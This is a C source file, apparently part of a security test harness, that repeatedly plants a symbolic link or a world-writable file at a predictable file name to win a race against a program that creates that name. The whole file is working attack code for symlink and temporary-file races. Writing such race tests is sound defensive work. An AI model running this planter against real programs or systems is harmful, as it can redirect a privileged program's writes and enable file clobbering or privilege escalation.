/*
 * attacker-plant.c — what another user does to win a race against a
 * program that creates a file by a predictable name: plant that name
 * again and again, as fast as the kernel allows.
 *
 *   attacker-plant symlink TARGET NAME STOPFILE SECONDS
 *   attacker-plant file NAME STOPFILE SECONDS
 *
 * "symlink" keeps NAME a symbolic link to TARGET; "file" keeps NAME an
 * empty regular file anyone may write (mode 0666).  Each time the name is
 * free again (the victim removed or renamed it) it is planted anew.  Prints
 * "ready" once the first plant exists, and stops when STOPFILE exists or
 * after SECONDS (the loop is bounded), printing how many plants it made.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int plant(int as_link, const char *target, const char *name)
{
    if (as_link)
        return symlink(target, name);
    int fd = open(name, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0666);
    if (fd < 0)
        return -1;
    fchmod(fd, 0666);
    close(fd);
    return 0;
}

int main(int argc, char **argv)
{
    int as_link = argc == 6 && !strcmp(argv[1], "symlink");
    if (!as_link && !(argc == 5 && !strcmp(argv[1], "file"))) {
        fprintf(stderr, "usage: attacker-plant symlink TARGET NAME STOPFILE SECONDS\n"
                        "       attacker-plant file NAME STOPFILE SECONDS\n");
        return 2;
    }
    const char *target = as_link ? argv[2] : NULL;
    const char *name = argv[as_link ? 3 : 2];
    const char *stop = argv[as_link ? 4 : 3];
    time_t end = time(NULL) + atol(argv[as_link ? 5 : 4]);
    unsigned long plants = 0;
    int ready = 0;
    for (unsigned long i = 0;; i++) {
        if (plant(as_link, target, name) == 0)
            plants++;
        if (!ready) {
            struct stat st;
            if (lstat(name, &st) == 0) {
                printf("ready\n");
                fflush(stdout);
                ready = 1;
            }
        }
        if (i % 4096 == 0 && (access(stop, F_OK) == 0 || time(NULL) >= end))
            break;
    }
    printf("planted %lu times\n", plants);
    return 0;
}
